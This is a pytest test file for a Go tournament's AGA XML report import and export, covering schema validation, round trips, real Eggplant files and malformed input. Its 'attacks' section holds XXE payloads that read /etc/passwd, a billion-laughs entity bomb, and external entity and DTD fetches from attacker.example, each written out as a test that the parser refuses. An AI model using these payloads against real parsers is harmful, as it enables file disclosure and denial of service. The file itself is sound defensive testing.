"""The AGA XML report: schema, round trips, the two real Eggplant files, attacks, bad input."""

from __future__ import annotations

from dataclasses import replace

import pytest
from lxml import etree

from addin.core.handicap import aga_text_komi
from addin.core.model import Bye, ByeKind, Result, Rules, Settings
from addin.core.ratings import rank_of
from addin.formats.aga_xml import (
    MAX_BYTES,
    SCHEMA_LOCATION,
    AGAReportError,
    overtime_element,
    read_aga_xml,
    validate_aga_xml,
    write_aga_xml,
)
from tests.factories import make_tournament
from tests.helpers import DATA

REAL = DATA / "aga-xml"
SEEDS = range(6)


def _doc(games: str, software: str = "addin", players: str = "") -> bytes:
    """A small report: players 1, 2, 3 (and ``players``), one round with ``games``."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<TournamentReport>
  <Header><Software>{software}</Software><Rules>AGA</Rules></Header>
  <PlayerList>
    <Player ID="1" GivenName="A" FamilyName="One" Rating="3d" InitialTournamentScore="0"/>
    <Player ID="2" GivenName="B" FamilyName="Two" Rating="1k" InitialTournamentScore="0"/>
    <Player ID="3" GivenName="C" FamilyName="Three" Rating="-5.5"/>{players}
  </PlayerList>
  <RoundList>
    <Round RoundNumber="1">
{games}
    </Round>
  </RoundList>
</TournamentReport>
""".encode()


def _game(black: int, white: int, result: str = "White win") -> str:
    return (
        f'      <Game BlackPlayerID="{black}" WhitePlayerID="{white}" Komi="7.5" Handicap="0" '
        f'GameResult="{result}"/>'
    )


# --------------------------------------------------------------------------- our own files


@pytest.mark.parametrize("rules", list(Rules))
@pytest.mark.parametrize("seed", SEEDS)
def test_export_validates_against_the_xsd(seed: int, rules: Rules) -> None:
    data = write_aga_xml(make_tournament(seed, rules))
    assert validate_aga_xml(data) == []


@pytest.mark.parametrize("rules", [Rules.AGA, Rules.ING])
@pytest.mark.parametrize("seed", SEEDS)
def test_export_import_export_is_identical(seed: int, rules: Rules) -> None:
    """No timestamp is written, so the second export must equal the first byte for byte."""
    first = write_aga_xml(make_tournament(seed, rules))
    assert write_aga_xml(read_aga_xml(first, "first.xml")) == first


@pytest.mark.parametrize("seed", SEEDS)
def test_import_restores_players_games_byes_and_settings(seed: int) -> None:
    t = make_tournament(seed)
    back = read_aga_xml(write_aga_xml(t), "report.xml")
    fields = ["family_name", "given_name", "rating", "initial_score", "email", "phone"]
    fields += ["address", "citizenship", "birth_date"]
    for p in t.players.values():
        assert [getattr(back.players[p.aga_id], f) for f in fields] == [
            getattr(p, f) for f in fields
        ]
    for mine, theirs in zip(t.rounds, back.rounds, strict=True):
        assert theirs.games == tuple(replace(g, board=None) for g in mine.games)
        assert set(theirs.byes) == set(mine.byes)  # forced byes are games, voluntary absences
    keep = "name venue venue_address start_date end_date director sponsor convener rules komi"
    for name in [*keep.split(), "rounds", "basic_time_minutes", "tiebreaks", "handicap_policy"]:
        assert getattr(back.settings, name) == getattr(t.settings, name), name


def test_document_shape() -> None:
    data = write_aga_xml(make_tournament(0), software="addin 0.1")
    assert data.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<TournamentReport ')
    root = etree.fromstring(data)
    xsi = "{http://www.w3.org/2001/XMLSchema-instance}noNamespaceSchemaLocation"
    assert root.get(xsi) == SCHEMA_LOCATION
    header = [child.tag for child in root.find("Header")]
    assert header == [
        *("Software", "TournamentName", "TournamentVenue", "TournamentDirector"),
        *("TournamentSponsor", "TournamentConvenor", "StartDate", "EndDate", "PairingFormat"),
        *("Rules", "BasicTime", "OvertimeFormat", "TiebreakSystemList", "Comment"),
    ]
    assert root.findtext("Header/Software") == "addin 0.1"
    assert [c.tag for c in root.find("Header/TournamentDirector")] == [
        "Name",
        "Address",
        "Phone",
        "Email",
        "WebPage",
    ]
    new_member = root.find("PlayerList/Player[@ID='90000']")
    assert new_member.get("FamilyName") == "Müller"
    assert new_member.get("Address") == "598 92nd Ave\nApt 3\nSeattle, WA 98115"
    assert new_member.get("BirthDate") == "1990-05-17"
    assert "Müller".encode() in data


def test_byes_are_written_as_eggplant_writes_them() -> None:
    """Forced: a self-game after the round's games, Komi 0, Handicap 0 (Eggplant XmlEncoderAGA).

    Voluntary: Eggplant holds one bye player a round, so an ABSENT in eggplantparticipation.
    """
    t = make_tournament(0)
    root = etree.fromstring(write_aga_xml(t))
    for rnd in t.rounds:
        element = root.find(f"RoundList/Round[@RoundNumber='{rnd.number}']")
        byes = [g for g in element if g.get("BlackPlayerID") == g.get("WhitePlayerID")]
        assert list(element)[len(element) - len(byes) :] == byes
        assert {(b.get("Komi"), b.get("Handicap")) for b in byes} <= {("0", "0")}
        forced = {str(b.player) for b in rnd.byes if b.kind is ByeKind.FORCED}
        assert {b.get("BlackPlayerID") for b in byes} == forced
        assert {b.get("GameResult") for b in byes} <= {"Involuntary Bye"}
        for bye in rnd.byes:
            player = root.find(f"PlayerList/Player[@ID='{bye.player}']")
            entry = player.get("eggplantparticipation").split(",")[rnd.number - 1]
            assert entry == ("BYE" if bye.kind is ByeKind.FORCED else "ABSENT")
    assert any(b.kind is ByeKind.VOLUNTARY for r in t.rounds for b in r.byes)


RESULTS_WRITTEN = {  # (GameResult as the AGA sample spells it, Eggplant's eggplantresult)
    Result.WHITE_WINS: ("White Win", "WHITE"),
    Result.BLACK_WINS: ("Black Win", "BLACK"),
    Result.WHITE_WINS_BY_FORFEIT: ("Black forfeit", "WHITE_BY_DEFAULT"),
    Result.BLACK_WINS_BY_FORFEIT: ("White forfeit", "BLACK_BY_DEFAULT"),
    Result.JIGO: ("Draw", "DRAW"),
    Result.NO_RESULT: ("Void", "DRAW"),
    Result.DOUBLE_FORFEIT: ("Double forfeit", "BOTH_LOSE_BY_DEFAULT"),
    None: ("Unknown", "UNKNOWN"),
}


def test_every_result_is_written_as_documented() -> None:
    t = make_tournament(0)
    root = etree.fromstring(write_aga_xml(t))
    for rnd in t.rounds:
        element = root.find(f"RoundList/Round[@RoundNumber='{rnd.number}']")
        written = [(g.get("GameResult"), g.get("eggplantresult")) for g in element]
        assert written[: len(rnd.games)] == [RESULTS_WRITTEN[g.result] for g in rnd.games]


def test_games_and_players_as_the_aga_sample_and_eggplant_write_them() -> None:
    """Komi an integer by the text report's rule; Rating a rank; the exact rating beside it."""
    t = make_tournament(0, Rules.ING)
    root = etree.fromstring(write_aga_xml(t))
    for rnd in t.rounds:
        element = root.find(f"RoundList/Round[@RoundNumber='{rnd.number}']")
        for g, written in zip(rnd.games, element, strict=False):
            assert written.get("Komi") == str(aga_text_komi(g.handicap, g.komi, Rules.ING)[1])
            assert written.get("Handicap") == str(g.handicap)
    for p in t.players.values():
        element = root.find(f"PlayerList/Player[@ID='{p.aga_id}']")
        assert element.get("Rating") == rank_of(p.rating).upper()
        assert float(element.get("eggplantagarating")) == p.rating
    assert root.get("eggplant-version") == "1.0.46"
    block = {child.tag: child.text for child in root.find("eggplant")}
    assert block["numberofrounds"] == str(t.settings.rounds)
    assert block["defaultkomi"] == str(int(t.settings.komi))
    assert (block["byemmsx2"], block["absentmmsx2"]) == ("2", "0")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("White Win", Result.WHITE_WINS),
        ("white win", Result.WHITE_WINS),
        ("WHITE  WINS", Result.WHITE_WINS),
        ("Black win", Result.BLACK_WINS),
        ("Black Win", Result.BLACK_WINS),
        ("Black forfeit", Result.WHITE_WINS_BY_FORFEIT),
        ("white forfeit", Result.BLACK_WINS_BY_FORFEIT),
        ("Draw", Result.JIGO),
        ("Void", Result.NO_RESULT),
        ("Double forfeit", Result.DOUBLE_FORFEIT),
        ("Double loss", Result.DOUBLE_FORFEIT),
        ("Unknown", None),
    ],
)
def test_game_results_are_read_in_any_casing(text: str, expected: Result | None) -> None:
    t = read_aga_xml(_doc(_game(2, 1, text)), "x.xml")
    assert t.rounds[0].games[0].result is expected


@pytest.mark.parametrize(
    ("software", "text", "kind"),
    [
        ("addin", "Voluntary Bye", ByeKind.VOLUNTARY),
        ("addin", "involuntary bye", ByeKind.FORCED),
        ("Eggplant", "Voluntary Bye", ByeKind.FORCED),  # Eggplant's pairing bye
        ("Eggplant", "Involuntary Bye", ByeKind.FORCED),
    ],
)
def test_byes_are_read(software: str, text: str, kind: ByeKind) -> None:
    games = _game(2, 1) + "\n" + _game(3, 3, text)
    t = read_aga_xml(_doc(games, software), "x.xml")
    assert t.rounds[0].byes == (Bye(3, kind),)
    assert len(t.rounds[0].games) == 1


# --------------------------------------------------------------------------- overtime


def _byo(size: int, count: int) -> dict[str, str]:
    return {"TimeBlockSize": str(size), "TimeBlockCount": str(count)}


def _canadian(stones: int, size: int) -> dict[str, str]:
    return {"StoneCount": str(stones), "TimeBlockSize": str(size)}


@pytest.mark.parametrize(
    ("format_text", "conditions", "element"),
    [
        ("Byo-yomi", "5 periods of 30 seconds", ("ByoYomi", _byo(30, 5))),
        ("japanese byoyomi", "30 seconds x 3", ("ByoYomi", _byo(30, 3))),
        ("", "5x30s", ("ByoYomi", _byo(30, 5))),
        ("Canadian", "25 stones in 10 minutes", ("Canadian", _canadian(25, 600))),
        ("canadian", "20 moves / 5 min", ("Canadian", _canadian(20, 300))),
        ("Fischer", "5 second increment per move", ("Fischer", {"Increment": "5"})),
        ("", "10s increment", ("Fischer", {"Increment": "10"})),
        ("Sudden death", "", ("SuddenDeath", {})),
        ("", "", ("SuddenDeath", {})),
    ],
)
def test_overtime_mapping(
    format_text: str, conditions: str, element: tuple[str, dict[str, str]]
) -> None:
    assert overtime_element(format_text, conditions) == element
    t = make_tournament(0)
    t.settings = replace(t.settings, overtime_format=format_text, overtime_conditions=conditions)
    first = write_aga_xml(t)
    assert validate_aga_xml(first) == []
    back = read_aga_xml(first, "x.xml").settings
    assert overtime_element(back.overtime_format, back.overtime_conditions) == element
    assert write_aga_xml(read_aga_xml(first, "x.xml")) == first


@pytest.mark.parametrize(
    ("format_text", "conditions", "message"),
    [
        ("hourglass", "", "overtime format 'hourglass' is not one of"),
        ("Byo-yomi", "5 periods", "do not give periods and their length"),
        ("Canadian", "10 minutes", "do not give stones and a time"),
        ("Fischer", "some", "do not give the increment"),
    ],
)
def test_overtime_that_cannot_be_reported(format_text: str, conditions: str, message: str) -> None:
    with pytest.raises(AGAReportError, match=message):
        overtime_element(format_text, conditions)


# --------------------------------------------------------------------------- real files


def test_real_eggplant_files_import() -> None:
    """Both real reports (Eggplant, Seattle Go Center) import: players, rounds, results.

    What is odd in them:

    * Neither has Eggplant's ``eggplant-version`` attribute, which marks saves from
      Eggplant 1.0.45 and earlier; Eggplant's own loader says those "have white and black
      players flipped". 2013-12.xml indeed gives the handicap stones to the stronger player
      in all six handicap games (2D takes a stone from 1D, 1K five from 6K), so its colours
      are swapped on import; 2014-02.xml is the right way round and is left alone.
    * Rating holds ranks in capitals ("15K", "1D"); Eggplant's own ``eggplantagarating``
      sometimes disagrees with that rank (SCHMITTEN 8K vs -9.03/-9.07, NIEDERMEYER 13K vs
      -14.28) and is -30.50 for players without an AGA rating (new member 99999, PARK 20K).
    * Komi is an integer: 6 for even games (Japanese rules, so 6.5 really) and 0 for
      handicap games; one-stone games are Handicap="1" Komi="0". The half point is implied
      (the AGA's and Eggplant's convention), so they read as 6.5 and 0.5.
    * InitialTournamentScore is 35..38: Eggplant counts McMahon scores up from a floor.
    * Upper-case enum names: Rules "JAPANESE", PairingFormat "MCMAHON"; tiebreak methods
      MMS/SOSM/SOSOSM, padded with Method="NULL" for tiers 4-6.
    * Header order differs from the AGA sample (dates first), no TournamentDirector at all,
      an empty <Comment/>, and an <eggplant> settings block after RoundList.
    * 2013-12.xml was written before any result: round 1 all "Unknown", rounds 2-3 empty.
      2014-02.xml: round 2 in progress ("Unknown"), and four players sat it out, which only
      ``eggplantparticipation="PAIRED,ABSENT,..."`` says - there is no bye Game element.
    * GameResult is "White win" where the AGA sample writes "White Win".
    """
    december = read_aga_xml((REAL / "2013-12.xml").read_bytes(), "2013-12.xml")
    assert december.settings.name == "Monthly Ratings December 2013"
    assert december.settings.rules is Rules.JAPANESE
    assert december.settings.rounds == 3
    assert december.settings.tiebreaks == ("MMS", "SOSM", "SOSOSM")
    assert december.settings.overtime_format == "Canadian"
    assert december.settings.overtime_conditions == "20 stones in 5 minutes"
    assert len(december.players) == 14
    assert [len(r.games) for r in december.rounds] == [7, 0, 0]
    assert {g.result for g in december.rounds[0].games} == {None}
    first = december.rounds[0].games[0]
    assert (first.white, first.black, first.handicap, first.komi) == (20550, 20631, 1, 0.5)
    for game in december.rounds[0].games:
        assert game.handicap == 0 or december.players[game.white].rating > (
            december.players[game.black].rating
        )
    assert december.players[19896].rating == 1.82  # within 1D: Eggplant's AGA rating
    assert december.players[2429].rating == -8.5  # 8K entered, AGA rating -9.03 noted
    assert "-9.03" in december.players[2429].notes
    assert december.players[99999].rating == -9.5  # -30.50 placeholder ignored
    assert december.players[99999].notes == ""
    assert december.players[20757].initial_score == 36.0

    february = read_aga_xml((REAL / "2014-02.xml").read_bytes(), "2014-02.xml")
    assert len(february.players) == 14
    assert [len(r.games) for r in february.rounds] == [7, 5, 0]
    assert {g.result for g in february.rounds[0].games} == {Result.WHITE_WINS}
    assert {g.result for g in february.rounds[1].games} == {None}
    assert (february.rounds[0].games[0].white, february.rounds[0].games[0].black) == (20550, 7303)
    absent = {2429, 7918, 21030, 6096}
    assert set(february.rounds[1].byes) == {Bye(p, ByeKind.VOLUNTARY) for p in absent}
    assert {p for p in february.players if february.players[p].bye_requests == {2}} == absent
    assert all(g.notes == "" for r in february.rounds for g in r.games)


INTERFACE_SAMPLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<TournamentReport xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
xsi:noNamespaceSchemaLocation="http://www.usgo.org/tournaments/AGATournamentSchema.xsd">
<Header>
<Software>WinTD</Software>
<TournamentName>2006 Toyota-Denso -- East Coast Qualifier</TournamentName>
<TournamentVenue><Name>Pennsylvania Hotel</Name></TournamentVenue>
<TournamentDirector><Name>Chuck Robbins</Name></TournamentDirector>
<TournamentSponsor><Name>Toyota-Denso Corporation</Name></TournamentSponsor>
<TournamentConvenor><Name>Roy Laird</Name></TournamentConvenor>
<StartDate>2006-01-14</StartDate>
<EndDate>2006-01-15</EndDate>
<PairingFormat>McMahon</PairingFormat>
<Rules>AGA</Rules>
<BasicTime>60</BasicTime>
<OvertimeFormat><ByoYomi TimeBlockSize="30" TimeBlockCount="5"></ByoYomi></OvertimeFormat>
<TiebreakSystemList>
  <System Tier="1" Method="SOS"></System>
  <System Tier="2" Method="SODOS"></System>
</TiebreakSystemList>
</Header>
<PlayerList>
  <Player ID="10297" GivenName="Yun" FamilyName="Feng" Rating="7D" InitialTournamentScore="0"/>
  <Player ID="11891" GivenName="Yupei" FamilyName="Xiong" Rating="7D" InitialTournamentScore="0"/>
  <Player ID="6016" GivenName="Ke" FamilyName="Huang" Rating="7D" InitialTournamentScore="0"/>
</PlayerList>
<RoundList>
  <Round RoundNumber="1">
    <Game BlackPlayerID="1910" WhitePlayerID="10297" Komi="6" Handicap="0" GameResult="White Win"/>
    <Game BlackPlayerID="3616" WhitePlayerID="11891" Komi="6" Handicap="0" GameResult="White Win"/>
  </Round>
  <Round RoundNumber="2">
    <Game BlackPlayerID="10297" WhitePlayerID="11018" Komi="6" Handicap="0" GameResult="Black Win"/>
    <Game BlackPlayerID="6016" WhitePlayerID="11891" Komi="6" Handicap="0" GameResult="White Win"/>
  </Round>
</RoundList>
</TournamentReport>
"""


def test_interface_document_sample() -> None:
    """The document's sample was cut short: its games name players it no longer lists."""
    with pytest.raises(AGAReportError) as error:
        read_aga_xml(INTERFACE_SAMPLE, "sample.xml")
    assert str(error.value) == (
        "sample.xml, line 29: <Game> BlackPlayerID=1910 is not in PlayerList"
    )
    missing = b"".join(
        b'<Player ID="%d" GivenName="X" FamilyName="Y" Rating="6D"/>' % n
        for n in (1910, 3616, 11018)
    )
    t = read_aga_xml(INTERFACE_SAMPLE.replace(b"</PlayerList>", missing + b"</PlayerList>"), "x")
    assert t.settings.director.name == "Chuck Robbins"
    assert (t.settings.overtime_format, t.settings.overtime_conditions) == (
        "Byo-yomi",
        "5 periods of 30 seconds",
    )
    assert t.settings.tiebreaks == ("SOS", "SODOS")
    assert [(g.white, g.black, g.komi, g.result) for g in t.rounds[1].games] == [
        (11018, 10297, 6.5, Result.BLACK_WINS),  # integer komi k means k.5 (AGA convention)
        (11891, 6016, 6.5, Result.WHITE_WINS),
    ]
    assert t.players[10297].rating == 7.5


@pytest.mark.parametrize("name", ["2013-12.xml", "2014-02.xml"])
def test_eggplant_komi_is_read_with_its_implied_half_point(name: str) -> None:
    """Komi="0" and "6" with <defaultkomi>6</defaultkomi>: 0.5 and 6.5, as Eggplant means them."""
    data = (REAL / name).read_bytes()
    root = etree.fromstring(data)
    assert root.findtext("eggplant/defaultkomi") == "6"
    t = read_aga_xml(data, name)
    games = [g for r in t.rounds for g in r.games]
    assert {g.komi for g in games if g.handicap} == {0.5}
    assert {g.komi for g in games if not g.handicap} == {6.5}
    assert any(g.handicap for g in games) and any(not g.handicap for g in games)
    assert t.settings.komi == 6.5


def test_a_komi_with_a_fraction_anywhere_is_read_as_written() -> None:
    seven = _game(2, 1).replace('Komi="7.5"', 'Komi="7"')
    four = '\n    <Player ID="4" GivenName="D" FamilyName="Four" Rating="2k"/>'
    both = _doc(seven + "\n" + _game(3, 4), players=four)
    assert [g.komi for g in read_aga_xml(both, "x").rounds[0].games] == [7.0, 7.5]
    zero = _game(3, 4).replace('Komi="7.5"', 'Komi="0"')
    whole = _doc(seven + "\n" + zero, players=four)
    assert [g.komi for g in read_aga_xml(whole, "x").rounds[0].games] == [7.5, 0.5]


@pytest.mark.parametrize("name", ["2013-12.xml", "2014-02.xml"])
def test_real_files_export_validly_and_round_trip(name: str) -> None:
    t = read_aga_xml((REAL / name).read_bytes(), name)
    first = write_aga_xml(t)
    assert validate_aga_xml(first) == []
    assert write_aga_xml(read_aga_xml(first, "again")) == first


# --------------------------------------------------------------------------- attacks


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE TournamentReport [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<TournamentReport><Header><TournamentName>&secret;</TournamentName></Header></TournamentReport>
"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<TournamentReport><Header><TournamentName>&lol9;</TournamentName></Header></TournamentReport>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<TournamentReport/>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE TournamentReport SYSTEM "http://attacker.example/x.dtd">
<TournamentReport/>
"""


@pytest.mark.parametrize(
    ("data", "message"),
    [
        pytest.param(XXE, "declares entities", id="external entity"),
        pytest.param(BILLION_LAUGHS, "declares entities", id="billion laughs"),
        pytest.param(PARAMETER_ENTITY, "declares entities", id="parameter entity"),
        pytest.param(EXTERNAL_DTD, "refers to an external DTD", id="external DTD"),
    ],
)
def test_malicious_xml_is_refused(data: bytes, message: str) -> None:
    with pytest.raises(AGAReportError, match=message) as error:
        read_aga_xml(data, "evil.xml")
    assert str(error.value).startswith("evil.xml: refused")
    assert validate_aga_xml(data)[0].startswith("the report: refused")


def test_oversized_report_is_refused() -> None:
    data = b"<TournamentReport>" + b" " * MAX_BYTES + b"</TournamentReport>"
    with pytest.raises(AGAReportError, match=r"big\.xml: .* bytes is more than the 20 MB"):
        read_aga_xml(data, "big.xml")


def test_a_plain_doctype_is_accepted() -> None:
    data = _doc(_game(2, 1)).replace(
        b"<TournamentReport>", b"<!DOCTYPE TournamentReport>\n<TournamentReport>"
    )
    assert len(read_aga_xml(data, "x.xml").rounds[0].games) == 1


# --------------------------------------------------------------------------- bad input


@pytest.mark.parametrize(
    ("games", "line", "message"),
    [
        (_game(2, 7), 11, "<Game> WhitePlayerID=7 is not in PlayerList"),
        (_game(2, 1) + "\n" + _game(1, 2), 12, "<Game> duplicates the game 2-1 at line 11"),
        (_game(2, 1) + "\n" + _game(3, 1), 12, "<Game> player 1 plays twice in round 1"),
        (_game(2, 1, "Resigned"), 11, "<Game> GameResult='Resigned' is not one of"),
        (_game(2, 1).replace('Komi="7.5"', 'Komi="six"'), 11, "<Game> Komi='six' is not"),
        (_game(2, 1).replace('Handicap="0"', 'Handicap="-1"'), 11, "<Game> Handicap='-1'"),
        (_game(2, 2), 11, "<Game> names the same player as White and Black but is no bye"),
        (_game(2, 1, "Voluntary Bye"), 11, "<Game> is a bye but names two different players"),
        (_game(2, 1) + "<Oops>", 12, "not well-formed XML: Opening and ending tag"),
    ],
)
def test_bad_games_name_the_element_and_line(games: str, line: int, message: str) -> None:
    with pytest.raises(AGAReportError) as error:
        read_aga_xml(_doc(games), "bad.xml")
    assert str(error.value).startswith(f"bad.xml, line {line}: ")
    assert message in str(error.value)


@pytest.mark.parametrize(
    ("players", "line", "message"),
    [
        ('\n    <Player ID="1" FamilyName="Again" Rating="2d"/>', 8, "ID 1 is listed twice"),
        ('\n    <Player ID="x9" FamilyName="X" Rating="2d"/>', 8, "ID='x9' is not an AGA number"),
        ('\n    <Player ID="9" FamilyName="X" Rating="strong"/>', 8, "Rating: 'strong' is not"),
        ('\n    <Player ID="9" Rating="2d" BirthDate="1990-13-01"/>', 8, "BirthDate='1990-13-01'"),
    ],
)
def test_bad_players_name_the_element_and_line(players: str, line: int, message: str) -> None:
    with pytest.raises(AGAReportError) as error:
        read_aga_xml(_doc(_game(2, 1), players=players), "bad.xml")
    assert str(error.value).startswith(f"bad.xml, line {line}: <Player> ")
    assert message in str(error.value)


def test_bad_header_and_rounds_name_the_element_and_line() -> None:
    data = _doc(_game(2, 1)).replace(b"<Rules>AGA</Rules>", b"<Rules>Korean</Rules>")
    with pytest.raises(AGAReportError, match=r"line 3: <Rules> 'Korean' is not one of"):
        read_aga_xml(data, "bad.xml")
    data = _doc(_game(2, 1)).replace(b"</RoundList>", b'<Round RoundNumber="1"/></RoundList>')
    with pytest.raises(AGAReportError, match=r"line 13: <Round> round 1 again \(first at line 10"):
        read_aga_xml(data, "bad.xml")
    with pytest.raises(AGAReportError, match=r"line 1: <Tournament> is not an AGA report"):
        read_aga_xml(b"<Tournament/>", "bad.xml")


def test_validation_names_the_line_of_each_problem() -> None:
    data = write_aga_xml(make_tournament(0))
    lines = data.decode().splitlines()
    number = next(i for i, line in enumerate(lines, 1) if 'Handicap="9"' in line)
    bad = data.replace(b'Handicap="9"', b'Handicap="12"', 1)
    problems = validate_aga_xml(bad)
    assert problems and problems[0].startswith(f"line {number}: ")
    assert "Handicap" in problems[0]
    orphan = data.replace(b'BlackPlayerID="15850"', b'BlackPlayerID="15851"', 1)
    assert any("blackPlayer" in p for p in validate_aga_xml(orphan))


def test_player_without_rank_or_rating_cannot_be_reported() -> None:
    t = make_tournament(0)
    t.players[15850] = replace(t.players[15850], rating=None, rank="")
    with pytest.raises(AGAReportError, match=r"player 15850 .* neither rank nor rating"):
        write_aga_xml(t)


def test_comment_keys_are_read_and_other_comments_ignored() -> None:
    data = _doc(_game(2, 1)).replace(
        b"</Header>", b"<Comment>Komi: 6.5; Rounds: 4; Handicap: Full</Comment></Header>"
    )
    settings = read_aga_xml(data, "x.xml").settings
    assert (settings.komi, settings.rounds, settings.handicap_policy.value) == (6.5, 4, "Full")
    free = _doc(_game(2, 1)).replace(b"</Header>", b"<Comment>a comment</Comment></Header>")
    assert read_aga_xml(free, "x.xml").settings.komi == Settings().komi
